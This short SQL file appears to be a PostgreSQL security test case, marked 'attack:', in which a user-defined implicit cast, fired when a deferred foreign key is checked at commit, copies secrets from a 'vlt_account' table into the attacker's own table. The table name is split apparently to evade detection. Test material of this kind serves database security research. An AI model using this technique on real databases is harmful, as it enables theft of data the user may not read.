-- A deferred foreign key compares by a cast of the user's own, which reads at the commit's end.
-- wants: read
-- attack:
CREATE TYPE mark AS (n int);
CREATE TABLE master (id int PRIMARY KEY);
INSERT INTO master VALUES (1), (2);
CREATE FUNCTION to_int(mark) RETURNS int LANGUAGE plpgsql AS $$
  BEGIN
    IF ($1).n = 1 THEN
      SET CONSTRAINTS ALL DEFERRED;
      INSERT INTO detail VALUES (ROW(2)::mark);
    ELSE
      EXECUTE 'INSERT INTO mallory_own SELECT id + 100, secret FROM ' || 'vlt' || '_account ON CONFLICT DO NOTHING';
    END IF;
    RETURN ($1).n;
  END $$;
CREATE CAST (mark AS int) WITH FUNCTION to_int(mark) AS IMPLICIT;
CREATE TABLE detail (m mark REFERENCES master DEFERRABLE INITIALLY DEFERRED);
BEGIN;
INSERT INTO detail VALUES (ROW(1)::mark);
COMMIT;
SELECT * FROM mallory_own;
